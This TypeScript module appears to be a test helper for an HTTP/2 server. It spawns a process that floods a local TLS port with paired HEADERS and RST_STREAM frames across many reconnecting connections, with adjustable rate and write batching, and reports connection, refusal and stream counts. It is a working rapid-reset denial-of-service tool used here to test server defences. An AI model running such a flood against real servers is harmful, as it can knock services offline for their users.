import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { CLIENT_PREFACE, ErrorCode } from '../../../src/http2/frames.ts';
import { encodeHeaders, type HeaderField } from '../../../src/http2/hpack.ts';
import { writeHeaders, writeRstStream, writeSettings } from '../../../src/http2/write-frames.ts';
import { openTls } from '../clients/sockets.ts';
import { inBackground } from '../process/background.ts';

/** A rapid reset flood with a reconnect loop. */
export interface FloodOrder {
  readonly port: number;
  readonly caFile: string;
  /** Fields of each request. */
  readonly fields: readonly HeaderField[];
  /** HEADERS end the stream, as of a GET. */
  readonly ends: boolean;
  readonly seconds: number;
  /** Streams a second in all; 0 = as fast as it goes. */
  readonly perSecond: number;
  /** Connections at the same time. */
  readonly connections: number;
  /** HEADERS and their RST_STREAM leave in writes of their own, so that no burst holds both. */
  readonly apart: boolean;
}

/** What a flood came to. */
export interface Flooded {
  readonly connections: number;
  readonly refused: number;
  readonly streams: number;
}

/** Runs a flood in a process of its own. @param core the processor it is bound to, where `taskset` is there */
export async function flood(order: FloodOrder, core?: number): Promise<Flooded> {
  const self = fileURLToPath(import.meta.url);
  const [command, ...rest] = [
    ...(core === undefined ? [] : inBackground(core)),
    process.execPath,
    self,
    JSON.stringify(order),
  ];
  const child = spawn(command ?? '', rest, { stdio: ['ignore', 'pipe', 'inherit'] });
  let out = '';
  child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
  await once(child, 'close');
  return JSON.parse(out) as Flooded;
}

/** An address of its own, so that its penalty affects no other client. */
const FROM = { localAddress: '127.0.0.2' };
const PER_WRITE = 200;
const STREAMS = 3000;

class Flooder {
  readonly #order: FloodOrder;
  readonly #block: Buffer;
  readonly #ca: Buffer;
  readonly #began = performance.now();
  connections = 0;
  refused = 0;
  streams = 0;

  constructor(order: FloodOrder) {
    this.#order = order;
    this.#block = encodeHeaders([...order.fields]);
    this.#ca = readFileSync(order.caFile);
  }

  async loop(): Promise<void> {
    const end = this.#began + this.#order.seconds * 1000;
    while (performance.now() < end) await this.#connection(end);
  }

  async #connection(end: number): Promise<void> {
    const { port } = this.#order;
    const socket = await openTls(port, { ca: this.#ca, ALPNProtocols: ['h2'], ...FROM }).catch(() => undefined);
    if (!socket) {
      this.refused += 1;
      await sleep(5);
      return;
    }
    this.connections += 1;
    const gone = once(socket, 'close').catch(() => undefined);
    socket.on('error', () => undefined).resume();
    socket.write(Buffer.concat([CLIENT_PREFACE, writeSettings([])]));
    for (let from = 0; from < STREAMS && !socket.destroyed && performance.now() < end; from += PER_WRITE) {
      const ids = Array.from({ length: PER_WRITE }, (_, index) => (from + index) * 2 + 1);
      const heads = ids.map((id) => writeHeaders(id, this.#block, this.#order.ends));
      const resets = ids.map((id) => writeRstStream(id, ErrorCode.CANCEL));
      this.streams += PER_WRITE;
      if (this.#order.apart) {
        socket.write(Buffer.concat(heads.slice(0, 90)));
        await sleep(1);
        socket.write(Buffer.concat(resets.slice(0, 90)));
      } else {
        socket.write(Buffer.concat(heads.flatMap((head, at) => [head, resets[at] ?? head])));
      }
      await sleep(this.#wait());
    }
    const cut = setTimeout(() => socket.destroy(), 1000);
    await gone;
    clearTimeout(cut);
  }

  /** Milliseconds until the rate allows more. */
  #wait(): number {
    const { perSecond } = this.#order;
    if (perSecond === 0) return 0;
    return Math.max(0, (this.streams / perSecond) * 1000 - (performance.now() - this.#began));
  }
}

const [, script, order] = process.argv;
if (script === fileURLToPath(import.meta.url) && order !== undefined) {
  const flooder = new Flooder(JSON.parse(order) as FloodOrder);
  await Promise.all(Array.from({ length: (JSON.parse(order) as FloodOrder).connections }, () => flooder.loop()));
  const { connections, refused, streams } = flooder;
  process.stdout.write(JSON.stringify({ connections, refused, streams } satisfies Flooded));
  process.exit(0);
}
